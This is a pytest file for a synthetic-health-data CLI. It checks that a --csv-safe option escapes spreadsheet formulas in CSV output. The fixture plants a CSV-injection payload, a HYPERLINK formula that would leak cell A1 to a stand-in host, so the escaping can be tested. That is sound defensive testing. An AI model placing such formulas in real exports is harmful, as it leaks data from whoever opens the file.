"""--csv-safe: cells a spreadsheet would run as a formula are defused in every CSV writer."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from healthsynth.cli import app
from healthsynth.data import neutralise_formulas
from healthsynth.generators import load_generator
from tests.helpers import real

runner = CliRunner()
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1)'


def invoke(*args: object):
    return runner.invoke(app, [str(a) for a in args])


@pytest.fixture(scope="module")
def model(tmp_path_factory) -> Path:
    """A model of Pima.tr whose diagnosis column holds a formula and a signed text value."""
    folder = tmp_path_factory.mktemp("csvsafe")
    df = real("MASS/Pima.tr")
    df["type"] = df["type"].map({"Yes": FORMULA, "No": "-none"})
    df.to_csv(folder / "pima.csv", index=False)
    r = invoke("fit", folder / "pima.csv", "--out", folder / "m", "--generator", "marginals")
    assert r.exit_code == 0, r.output
    return folder / "m"


def cells(path: Path, column: str) -> set[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return {row[column] for row in csv.DictReader(fh)}


def test_csv_safe_defuses_formulas_and_the_default_keeps_the_values(model, tmp_path):
    r = invoke(
        "sample", model, "-n", "300", "-o", tmp_path / "safe.csv", "--seed", "1", "--csv-safe"
    )
    assert r.exit_code == 0, r.output
    assert cells(tmp_path / "safe.csv", "type") == {"'" + FORMULA, "'-none"}
    r = invoke("sample", model, "-n", "300", "-o", tmp_path / "raw.csv", "--seed", "1")
    assert r.exit_code == 0, r.output
    assert cells(tmp_path / "raw.csv", "type") == {FORMULA, "-none"}
    # numbers are numbers, not formulas: the same values either way
    safe, raw = pd.read_csv(tmp_path / "safe.csv"), pd.read_csv(tmp_path / "raw.csv")
    pd.testing.assert_frame_equal(safe.drop(columns="type"), raw.drop(columns="type"))


def test_csv_safe_holds_in_every_block_of_a_long_file(model, tmp_path):
    gen = load_generator(model)
    gen.sample_to_file(230, tmp_path / "blocks.csv", seed=3, block_size=50, csv_safe=True)
    assert cells(tmp_path / "blocks.csv", "type") == {"'" + FORMULA, "'-none"}
    assert len(pd.read_csv(tmp_path / "blocks.csv")) == 230


def test_csv_safe_on_parquet_is_one_sentence(model, tmp_path):
    r = invoke("sample", model, "-n", "5", "-o", tmp_path / "s.parquet", "--csv-safe")
    assert r.exit_code == 2
    assert "--csv-safe applies to CSV output" in r.output
    assert not (tmp_path / "s.parquet").exists()


def test_neutralise_formulas_leaves_numbers_and_the_input_alone():
    df = pd.DataFrame({"=x": ["@SUM(1)", "ok", None], "n": [-5, 2, 3]})
    out = neutralise_formulas(df)
    assert list(out.columns) == ["'=x", "n"]
    assert out["'=x"].tolist()[:2] == ["'@SUM(1)", "ok"] and out["n"].tolist() == [-5, 2, 3]
    assert list(df.columns) == ["=x", "n"]
